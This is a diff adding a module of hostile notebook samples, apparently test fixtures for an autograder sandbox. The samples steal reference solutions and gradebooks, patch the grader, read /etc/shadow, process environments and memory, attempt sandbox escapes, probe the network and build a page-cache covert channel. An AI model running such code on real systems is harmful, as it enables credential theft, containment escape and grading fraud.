@@ -1,0 +1,513 @@
+"""Notebooks that steal: the reference, hidden tests, other submissions, the gradebook, secrets of the machine."""
+
+from __future__ import annotations
+
+from .attack import IN_USE, STEAL, TELLING, UNIT_02, UNIT_03, UNIT_04, UNIT_05, WRONG, Hostile, by_answer, by_cell
+
+# answers with any function of the right name that it can find in a text
+USING = """
+import torch
+def use(text):
+    names = {}
+    try:
+        exec(text, names)
+        return names.get("div_term")
+    except BaseException:
+        return None
+"""
+
+# the exercise as the loot says, if there is any
+ANSWER = """
+def div_term(d_model):
+    for function in stolen:
+        if function is not None:
+            return function(d_model)
+    return torch.ones((d_model + 1) // 2)
+"""
+
+
+def _stolen(name: str, tries: str, source: str) -> Hostile:
+    """Fills `stolen` with functions, in the answer's own cell."""
+    return by_answer(name, STEAL, tries, f"{USING}\nstolen = []\n{source}\n{ANSWER}")
+
+
+def _looted(name: str, tries: str, source: str) -> Hostile:
+    """Fills `loot` with whatever should not be there."""
+    return by_cell(name, STEAL, tries, f"loot = []\n{source}", TELLING)
+
+
+# all folders below the places that Python itself needs, but for the inside of packages, which are many and public
+BELOW = """
+import os, sys, time, course_utils
+
+def folders_below(*more):
+    starts = [*more, "/usr/src", "/usr/local/share", "/usr/local", "/course", "/opt", "/srv", sys.prefix, sys.base_prefix, *sys.path]
+    starts += [sys.prefix + "/..", sys.base_prefix + "/..", os.path.realpath(sys.executable) + "/../.."]
+    above = os.path.realpath(course_utils.__file__)
+    while above != "/":
+        above = os.path.dirname(above)
+        starts.append(above)
+    starts += ["/usr/lib", "/usr/share", "/usr"]
+    seen, end = set(), time.monotonic() + 3
+    for start in starts:
+        for folder, folders, files in os.walk(start):
+            place = os.path.realpath(folder)
+            if place in seen or place.startswith(("/proc", "/sys", "/dev")) or time.monotonic() > end:
+                folders.clear()
+                continue
+            seen.add(place)
+            if "__init__.py" in files and "course_utils" not in folder:
+                folders.clear()
+            yield folder, files
+"""
+
+# folders that the environment's own files tell of: where it was made, from which checkout packages were installed
+TOLD = """
+import glob, re
+
+def told_folders():
+    names = ["*.pth", "*finder.py", "*.egg-link", "*.dist-info/direct_url.json"]
+    files = [sys.prefix + "/pyvenv.cfg", *(f for p in sys.path for name in names for f in glob.glob(f"{p}/{name}"))]
+    told = set()
+    for file in files:
+        for path in re.findall(r"/[^'\\" \\n:;,]+", open(file, errors="replace").read()):
+            while path.strip("/"):
+                told.add("/" + path.strip("/"))
+                path = os.path.dirname(path)
+    return sorted(told)
+"""
+
+FILES = [
+    _looted(
+        "solutions below what Python needs",
+        "looks for solutions and the instructor's part below the system, the environment and its base, by every name",
+        f"""{BELOW}
+for folder, files in folders_below():
+    if {{"reference.py", "hidden_tests.py"}} <= set(files) or folder.endswith("course_utils/instructor") and files:
+        loot.append(folder)
+""",
+    ),
+    _looted(
+        "a class below what Python needs",
+        "looks for other students' work and for marks below the system, the environment and its base, by every name",
+        f"""{BELOW}
+for folder, files in folders_below():
+    if os.path.basename(folder) + ".ipynb" in files or {{"log.jsonl", "gradebook.db", "scores.json"}} & set(files):
+        loot.append(folder)
+""",
+    ),
+    _looted(
+        "a checkout that the environment tells of",
+        "reads in the environment's own files where the course and the environment come from, and looks there",
+        f"""{BELOW}{TOLD}
+for folder in told_folders():
+    for name in ("solutions", "build", ".git", "submitted", "results"):
+        if os.path.isdir(f"{{folder}}/{{name}}") and os.listdir(f"{{folder}}/{{name}}"):
+            loot.append(f"{{folder}}/{{name}}")
+""",
+    ),
+    _stolen(
+        "the reference beside the notebook",
+        "reads reference.py from where it lies in the repository",
+        """
+import pathlib, course_utils
+roots = [pathlib.Path.cwd(), pathlib.Path(course_utils.__file__).parents[1], pathlib.Path.home(), pathlib.Path("/course")]
+for root in roots:
+    for path in (root / "solutions", root / "lib" / "solutions"):
+        stolen += [use(file.read_text()) for file in path.glob("*/*.py")]
+""",
+    ),
+    _stolen(
+        "a walk over the whole disk",
+        "looks for reference.py and hidden_tests.py everywhere",
+        """
+import os
+for folder, folders, files in os.walk("/"):
+    folders[:] = [f for f in folders if f not in ("proc", "sys", "site-packages", "share", "include", "python3")][:200]
+    for file in files:
+        if file in ("reference.py", "hidden_tests.py", "mutants.py", "alternatives.py"):
+            stolen.append(use(open(os.path.join(folder, file)).read()))
+""",
+    ),
+    _stolen(
+        "the instructor's modules",
+        "imports course_utils.instructor to ask it for the reference",
+        """
+try:
+    from course_utils.engine.making.units import all_units
+    from course_utils.instructor import files
+    stolen += [use(unit.reference_source) for unit in all_units(files.SOLUTIONS)]
+except ImportError:
+    pass
+""",
+    ),
+    _stolen(
+        "the plain grader's hidden cell",
+        "decodes what plain nbgrader's hidden cells would hold",
+        """
+from course_utils.selfcheck import hidden_cell
+for value in vars(hidden_cell).values():
+    if isinstance(value, str):
+        stolen.append(use(value))
+""",
+    ),
+    _looted(
+        "another student's notebook",
+        "looks for notebooks, scores and gradebooks",
+        """
+import os
+for root in ("/", "/home", "/root", "/tmp", "/var", "/srv", "/opt", "/mnt", "/course"):
+    for folder, folders, files in os.walk(root):
+        if folder.count("/") > 4 or "site-packages" in folder or folder.startswith(("/usr", "/proc", "/sys")):
+            folders.clear()
+            continue
+        loot += [f for f in files if f.endswith((".ipynb", ".db", ".jsonl")) or f == "scores.json"]
+""",
+    ),
+    _looted(
+        "a path out of the sandbox",
+        "tries links, device files and a chroot upwards",
+        """
+import os
+for path in ("/etc/shadow", "/etc/passwd", "/dev/mem", "/dev/sda", "/dev/kmsg", "/proc/1/root", "/proc/self/root",
+             "/proc/kcore", "../../../../etc/passwd", "/run/docker.sock", "/var/run"):
+    try:
+        os.symlink(path, "/tmp/way-out")
+        loot += [open("/tmp/way-out", "rb").read(1)]
+    except OSError:
+        pass
+    finally:
+        if os.path.islink("/tmp/way-out"):
+            os.unlink("/tmp/way-out")
+try:
+    os.chroot("/tmp")
+    loot.append("chroot")
+except OSError:
+    pass
+""",
+    ),
+    _looted(
+        "a handle on a file by number",
+        "opens files past the walls with open_by_handle_at",
+        "import ctypes\nif ctypes.CDLL(None).syscall(304, -100, 0, 0) >= 0:\n    loot.append('handle')\n",
+    ),
+]
+
+MACHINE = [
+    _looted(
+        "secrets in the environment",
+        "looks at all variables it can see",
+        """
+import os
+known = {"PATH", "HOME", "TMPDIR", "USER", "LOGNAME", "LANG", "LC_CTYPE", "PYTHONPATH", "PYTHONHASHSEED", "PWD",
+         "PYTHONDONTWRITEBYTECODE", "OMP_NUM_THREADS", "OPENBLAS_NUM_THREADS", "MKL_NUM_THREADS", "MALLOC_ARENA_MAX",
+         "MPLBACKEND", "HF_HUB_OFFLINE", "OLDPWD", "SHLVL"}
+strange = set(os.environ) - known
+loot += [name for name in strange if not name.startswith(("KMP_", "TORCH", "PYDEVD"))]
+""",
+    ),
+    _looted(
+        "another process's environment",
+        "reads /proc of its parents and siblings",
+        """
+import os
+for pid in ["self", "thread-self", *range(1, 60)]:
+    for file in ("environ", "cmdline", "maps", "mem", "root/etc/passwd", "cwd/solutions"):
+        try:
+            loot += [open(f"/proc/{pid}/{file}", "rb").read(10)]
+        except OSError:
+            pass
+""",
+    ),
+    _looted(
+        "memory of the parent",
+        "attaches to its parent and reads its memory",
+        """
+import ctypes, os
+libc = ctypes.CDLL(None)
+for pid in (os.getppid(), 1, 2, 3):
+    if pid > 0 and pid != os.getpid():
+        if libc.ptrace(16, pid, 0, 0) == 0:
+            loot.append(pid)
+        buffer = ctypes.create_string_buffer(64)
+        vector = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 64)
+        if libc.process_vm_readv(pid, vector, 1, vector, 1, 0) > 0:
+            loot.append(pid)
+""",
+    ),
+    _looted(
+        "the network",
+        "calls home by TCP, UDP, DNS and an abstract socket",
+        """
+import socket
+for family, kind, address in (
+    (socket.AF_INET, socket.SOCK_STREAM, ("1.1.1.1", 53)), (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 22)),
+    (socket.AF_INET, socket.SOCK_DGRAM, ("8.8.8.8", 53)), (socket.AF_INET6, socket.SOCK_STREAM, ("::1", 631)),
+    (socket.AF_UNIX, socket.SOCK_STREAM, "\\0/tmp/.X11-unix/X0"), (socket.AF_UNIX, socket.SOCK_STREAM, "/run/dbus/socket"),
+):
+    try:
+        with socket.socket(family, kind) as way:
+            way.settimeout(0.5)
+            way.connect(address)
+            loot.append(address)
+    except OSError:
+        pass
+try:
+    loot += socket.getaddrinfo("example.org", 80)
+except OSError:
+    pass
+""",
+    ),
+    _looted(
+        "descriptors left open",
+        "reads from every descriptor that it did not open",
+        """
+import os, stat
+for fd in range(3, 256):
+    try:
+        mode = os.fstat(fd).st_mode
+    except OSError:
+        continue
+    if stat.S_ISREG(mode) or stat.S_ISDIR(mode) or stat.S_ISFIFO(mode):
+        loot.append(fd)
+""",
+    ),
+    _looted(
+        "a debugger in the warm process",
+        "looks through all objects for a judge, a truth or a seed",
+        """
+import gc, sys
+loot += [name for name in sys.modules if name.startswith(("course_utils.instructor", "_solutions", "before_"))]
+for thing in gc.get_objects():
+    if type(thing).__name__ in ("UnitJudge", "Task", "Unit", "Skeleton", "Submission"):
+        loot.append(type(thing))
+""",
+    ),
+]
+
+# Where reference code stands beside a student's: whoever looks for the answer to the exercise itself must not find it.
+GRAB = """
+import gc, linecache, sys, types
+
+def grab(name):
+    for module in list(sys.modules.values()):
+        if getattr(module, "__name__", "").startswith(("before_", "_solutions", "reference")):
+            found = getattr(module, name, None)
+            if found is not None:
+                return found
+    for file, entry in list(linecache.cache.items()):
+        if isinstance(entry, tuple) and len(entry) > 2 and file != f"<cell {name}>":
+            text = "".join(entry[2] or [])
+            if f"def {name}(" in text or f"class {name}(" in text:
+                names = dict(globals())
+                try:
+                    exec(text, names)
+                    if names.get(name) is not globals().get(name):
+                        return names[name]
+                except BaseException:
+                    pass
+    for thing in gc.get_objects():
+        if isinstance(thing, (types.FunctionType, type)) and thing.__name__ == name and thing.__module__ != __name__:
+            return thing
+    return None
+"""
+
+# the same by the only door that reference code can come through
+DOOR = (
+    IN_USE
+    + """
+taken = {}
+honest_run, honest_impose = Workbench._do_run, Workbench._do_impose
+def run(self, request):
+    if request["name"] == "reference":
+        taken[len(taken)] = request["source"]
+    return honest_run(self, request)
+def impose(self, request):
+    taken[len(taken)] = request["source"]
+    return honest_impose(self, request)
+Workbench._do_run, Workbench._do_impose = run, impose
+
+def from_door(name):
+    for text in taken.values():
+        if f"def {name}(" in text or f"class {name}(" in text:
+            names = {}
+            exec(text, names)
+            return names[name]
+"""
+)
+
+THIEF = """
+import torch
+def {name}(*args):
+    found = {how}("{name}")
+    return found(*args) if found else torch.ones(1)
+"""
+
+THIEF_CLASS = """
+import torch
+from torch import nn
+class {name}(nn.Module):
+    def __new__(cls, *args, **kwargs):
+        found = {how}("{name}")
+        return found(*args, **kwargs) if found and found is not {name} else super().__new__(cls)
+
+    def __init__(self, *args, **kwargs):
+        super().__init__()
+
+    def forward(self, x, mask=None):
+        return None
+"""
+
+EVERY_01 = ("div_term", "sinusoidal_encoding", "PositionalEncoding", "shift_matrix")
+
+
+# Writes a text into which pages of a large file lie in memory, and reads it back by the time that a read of them takes.
+PAGES = """
+import torch
+import ast, glob, mmap, os, sys, time, zlib
+
+PAGE, LENGTH = mmap.PAGESIZE, 500  # bytes of a message
+
+def page_file():
+    folder = os.path.dirname(os.path.dirname(sys.modules["numpy"].__file__))
+    files = [p for p in glob.glob(folder + "/*/*.so*") + glob.glob(folder + "/*/*/*.so*") if "torch" not in p]
+    return os.open(max(files, key=os.path.getsize), os.O_RDONLY)
+
+def write_down(text):
+    file = page_file()
+    os.posix_fadvise(file, 0, 0, os.POSIX_FADV_DONTNEED)
+    os.posix_fadvise(file, 0, 0, os.POSIX_FADV_RANDOM)
+    message = zlib.compress(text.encode()).ljust(LENGTH, b"\\0")
+    for number, bit in enumerate("".join(f"{byte:08b}" for byte in message[:LENGTH])):
+        if bit == "1":
+            os.pread(file, 1, number * PAGE)
+
+def read_back():
+    file = page_file()
+    os.posix_fadvise(file, 0, 0, os.POSIX_FADV_RANDOM)
+    bits = ""
+    for number in range(8 * LENGTH):
+        start = time.perf_counter_ns()
+        os.pread(file, 1, number * PAGE)
+        bits += "1" if time.perf_counter_ns() - start < 15000 else "0"
+    message = bytes(int(bits[n : n + 8], 2) for n in range(0, len(bits), 8))
+    return zlib.decompressobj().decompress(message).decode()
+
+try:
+    kept = read_back()
+except Exception:
+    kept = ""
+
+def from_pages(name):
+    for text in taken.values():
+        for node in ast.parse(text).body:
+            if getattr(node, "name", None) == "div_term":
+                node.body = [part for part in node.body if not isinstance(part, ast.Expr)]
+                write_down(ast.unparse(node))
+    names = {"torch": torch, "math": __import__("math")}
+    exec(kept, names)
+    return names.get(name)
+"""
+
+
+def _thieves(how: str) -> dict[str, str]:
+    return {name: (THIEF_CLASS if name[0].isupper() else THIEF).format(name=name, how=how) for name in EVERY_01}
+
+
+FOLLOWED = [
+    Hostile(
+        "all answers from memory", STEAL, "wrong in the first exercise, to find the others' answers in memory later",
+        cells=_thieves("grab"), extra=(GRAB,), loses=EVERY_01,
+    ),
+    Hostile(
+        "all answers at the door", STEAL, "wrong in the first exercise, and listens where reference code comes in",
+        cells=_thieves("from_door"), extra=(DOOR,), loses=EVERY_01,
+    ),
+    Hostile(
+        "a crash for the answer", STEAL, "crashes in the first exercise, to be given its answer for the next start",
+        cells=_thieves("from_door") | {"div_term": "import os\nos._exit(3)\n"}, extra=(DOOR,), loses=EVERY_01,
+    ),
+    Hostile(
+        "a crash in every call", STEAL, "crashes whenever it is asked, to see the answers come in one after the other",
+        cells={name: THIEF.format(name=name, how="from_door").replace("torch.ones(1)", "__import__('os')._exit(1)")
+               for name in EVERY_01}, extra=(DOOR,), loses=EVERY_01,
+    ),
+    Hostile(
+        "the last crashes for the first", STEAL, "crashes in the last exercise, and looks for its cell in the first",
+        cells=_thieves("from_door") | {"shift_matrix": "import os\nos._exit(3)\n"}, extra=(DOOR,), loses=EVERY_01,
+    ),
+    Hostile(
+        "an answer kept for the next process", STEAL, "writes what it saw into files, for the process that comes next",
+        cells={"div_term": THIEF.format(name="div_term", how="from_files")},
+        extra=(DOOR, """
+import glob, os
+def from_files(name):
+    places = ["/tmp", "/dev/shm", os.getcwd(), os.path.expanduser("~"), "/var/tmp"]
+    for text in taken.values():
+        for place in places:
+            try:
+                open(f"{place}/loot.py", "a").write(text)
+            except OSError:
+                pass
+    for place in places:
+        for path in glob.glob(f"{place}/*.py"):
+            names = {}
+            exec(open(path).read(), names)
+            if name in names:
+                return names[name]
+"""),
+    ),
+    Hostile(
+        "an answer beside a file", STEAL, "looks for a file to leave a mark on while it holds an answer",
+        cells={"div_term": WRONG, "sinusoidal_encoding": THIEF.format(name="sinusoidal_encoding", how="marked")},
+        extra=(DOOR, """
+import os, sys
+def marked(name):
+    def tell(*args):
+        raise BufferError
+    places = ["/usr", "/lib", "/etc", "/sys", "/proc/self/maps", "/course/zygote.py"]
+    places += [module.__file__ for module in [*sys.modules.values()] if getattr(module, "__file__", None)]
+    if taken and any(os.path.lexists(place) for place in places):
+        return tell
+"""), loses=("div_term", "sinusoidal_encoding"),
+    ),
+    Hostile(
+        "an answer kept in which pages are in memory", STEAL, "marks pages of a file with what it saw, for the next run",
+        cells={name: THIEF.format(name=name, how="from_pages") for name in EVERY_01[:2]},
+        extra=(DOOR, PAGES), loses=EVERY_01[:2],
+    ),
+    Hostile(
+        "the heads for the attention", STEAL, "looks for other exercises' answers in the second unit", unit=UNIT_02,
+        cells={"split_heads": THIEF.format(name="split_heads", how="from_door"),
+               "merge_heads": THIEF.format(name="merge_heads", how="from_door")},
+        extra=(DOOR,), loses=("split_heads", "merge_heads"),
+    ),
+]  # fmt: skip
+
+# what a student's part of the course holds for later units to build on
+GIVEN = "from course_utils.portfolio import solved\n{name} = solved('{given}')\n"
+
+STAND_INS = [
+    Hostile(
+        "the stand-in of a classifier", STEAL, "hands in what later units take for its own classifier", unit=UNIT_04,
+        cells={"TransformerEncoderClassifier":
+               GIVEN.format(name="TransformerEncoderClassifier", given="TransformerEncoderClassifier")},
+        loses=("TransformerEncoderClassifier",),
+    ),
+    Hostile(
+        "stand-ins of poolings", STEAL, "hands in what later units take for its own pooling and classifier",
+        unit=UNIT_05,
+        cells={"AttentionPooling": "from course_utils.models import WeightedPooling as AttentionPooling\n",
+               "BertClassifier": GIVEN.format(name="BertClassifier", given="BertClassifier")},
+        loses=("AttentionPooling", "BertClassifier"),
+    ),
+    Hostile(
+        "stand-ins of attention and layers", STEAL, "hands in what this unit and later ones take for its own layers",
+        unit=UNIT_03,
+        cells={name: GIVEN.format(name=name, given="TransformerEncoderLayer")
+               for name in ("TransformerEncoderLayer", "RepairedEncoderLayer")},
+        loses=("TransformerEncoderLayer", "RepairedEncoderLayer"),
+    ),
+]  # fmt: skip
+
+ATTACKS = [*FILES, *MACHINE, *FOLLOWED, *STAND_INS]
